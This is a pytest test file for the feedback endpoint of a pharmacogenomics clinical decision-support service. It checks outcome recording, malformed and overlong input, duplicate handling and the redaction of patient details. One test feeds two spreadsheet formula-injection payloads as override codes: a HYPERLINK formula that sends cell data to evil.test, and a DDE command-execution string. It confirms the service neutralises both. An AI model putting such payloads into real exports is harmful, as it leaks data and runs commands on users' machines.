"""Feedback (checklist F1-F2): accepted / overridden, malformed input, idempotent repeats."""

from __future__ import annotations

import pytest

from tests.conftest import logged_events
from tests.fhirdata import genotype, hook_request

FEEDBACK = "/cds-services/pgx-order-select/feedback"


@pytest.fixture
def card(client):
    response = client.post(
        "/cds-services/pgx-order-select", json=hook_request(genotypes=[genotype("CYP2C19", "*2/*2")])
    )
    return response.json()["cards"][0]


def feedback_events(settings):
    return [event for event in logged_events(settings) if event["type"] == "feedback"]


def test_accepted_feedback_names_the_suggestion(client, settings, card):
    item = {
        "card": card["uuid"],
        "outcome": "accepted",
        "acceptedSuggestions": [{"id": card["suggestions"][1]["uuid"]}],
        "outcomeTimestamp": "2026-11-22T10:05:31.123Z",
    }
    response = client.post(FEEDBACK, json={"feedback": [item]})
    assert response.status_code == 200 and response.json() == {"recorded": 1, "duplicates": 0}
    [event] = feedback_events(settings)
    assert event["card"] == card["uuid"] and event["outcome"] == "accepted"
    assert event["accepted_suggestions"] == [card["suggestions"][1]["uuid"]]
    assert event["outcome_time"] == "2026-11-22T10:05:31.123000+00:00"


def test_overrides_with_and_without_a_reason(client, settings, card):
    items = [
        {"card": card["uuid"], "outcome": "overridden", "outcomeTimestamp": "2026-11-22T10:05:31Z"},
        # The sandbox sends the reason without a display, and a free-text comment.
        {
            "card": card["uuid"],
            "outcome": "overridden",
            "outcomeTimestamp": "2026-11-22T10:06:00+01:00",
            "overrideReason": {
                "reason": {"system": "urn:pgx-loop:override-reason", "code": "stable-on-drug"},
                "userComment": "Patient Jane Doe, MRN 123, has been fine on it for years",
            },
        },
    ]
    response = client.post(FEEDBACK, json={"feedback": items})
    assert response.status_code == 200 and response.json()["recorded"] == 2
    events = feedback_events(settings)
    assert [event.get("override_reason", {}).get("code") for event in events] == [None, "stable-on-drug"]
    assert events[1]["has_comment"] is True
    assert events[1]["outcome_time"] == "2026-11-22T09:06:00+00:00"
    assert "Jane Doe" not in str(events) and "MRN" not in str(events)  # comments may identify the patient


def test_repeated_feedback_is_recorded_once(client, settings, card):
    body = {"feedback": [{"card": card["uuid"], "outcome": "overridden", "outcomeTimestamp": "2026-11-22T10:05:31Z"}]}
    assert client.post(FEEDBACK, json=body).json() == {"recorded": 1, "duplicates": 0}
    assert client.post(FEEDBACK, json=body).json() == {"recorded": 0, "duplicates": 1}
    doubled = {"feedback": body["feedback"] * 2}
    assert client.post(FEEDBACK, json=doubled).json() == {"recorded": 0, "duplicates": 2}
    assert len(feedback_events(settings)) == 1


BAD = {
    "bad outcome": {"card": "c", "outcome": "ignored", "outcomeTimestamp": "2026-11-22T10:05:31Z"},
    "no card": {"outcome": "overridden", "outcomeTimestamp": "2026-11-22T10:05:31Z"},
    "no timestamp": {"card": "c", "outcome": "overridden"},
    "timestamp without zone": {"card": "c", "outcome": "overridden", "outcomeTimestamp": "2026-11-22T10:05:31"},
    "accepted without suggestion": {"card": "c", "outcome": "accepted", "outcomeTimestamp": "2026-11-22T10:05:31Z"},
    "reason without code": {
        "card": "c",
        "outcome": "overridden",
        "outcomeTimestamp": "2026-11-22T10:05:31Z",
        "overrideReason": {"reason": {"system": "s"}},
    },
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_malformed_feedback_gets_400(client, settings, case):
    response = client.post(FEEDBACK, json={"feedback": [BAD[case]]})
    assert response.status_code == 400
    assert response.json()["resourceType"] == "OperationOutcome"
    assert feedback_events(settings) == []


def test_an_empty_or_missing_feedback_list_is_400(client):
    assert client.post(FEEDBACK, json={"feedback": []}).status_code == 400
    assert client.post(FEEDBACK, json={}).status_code == 400


def test_feedback_for_an_unknown_service_is_404(client):
    item = {"card": "c", "outcome": "overridden", "outcomeTimestamp": "2026-11-22T10:05:31Z"}
    assert client.post("/cds-services/nope/feedback", json={"feedback": [item]}).status_code == 404


def test_only_a_reason_the_cards_offer_is_recorded_anything_else_is_other(client, settings, card):
    offered = card["overrideReasons"][0]
    sent = [
        offered,
        {"system": "urn:pgx-loop:override-reason", "code": '=HYPERLINK("http://evil.test/?x="&A1,"Details")'},
        {"system": "urn:pgx-loop:override-reason", "code": "=cmd|' /C calc'!A0"},
        {"system": "http://example.org/other-system", "code": offered["code"]},
    ]
    items = [
        {"card": card["uuid"], "outcome": "overridden", "outcomeTimestamp": f"2026-11-22T10:0{i}:00Z",
         "overrideReason": {"reason": reason}}
        for i, reason in enumerate(sent)
    ]  # fmt: skip
    assert client.post(FEEDBACK, json={"feedback": items}).json() == {"recorded": 4, "duplicates": 0}
    codes = [event["override_reason"]["code"] for event in feedback_events(settings)]
    assert codes == [offered["code"], "other", "other", "other"]
    assert "HYPERLINK" not in str(feedback_events(settings))


@pytest.mark.parametrize(
    "item",
    [
        {"card": "c" * 129, "outcome": "overridden"},
        {"card": "c", "outcome": "accepted", "acceptedSuggestions": [{"id": "s" * 129}]},
        {"card": "c", "outcome": "overridden",
         "overrideReason": {"reason": {"system": "urn:pgx-loop:override-reason", "code": "x" * 129}}},
        {"card": "c", "outcome": "overridden", "overrideReason": {"userComment": "x" * 4001}},
    ],
    ids=["card", "suggestion id", "reason code", "comment"],
)  # fmt: skip
def test_overlong_feedback_fields_are_refused(client, settings, item):
    response = client.post(FEEDBACK, json={"feedback": [{**item, "outcomeTimestamp": "2026-11-22T10:05:31Z"}]})
    assert response.status_code == 400
    assert "x" * 100 not in response.text and "c" * 100 not in response.text  # the reason names, never echoes
    assert feedback_events(settings) == []
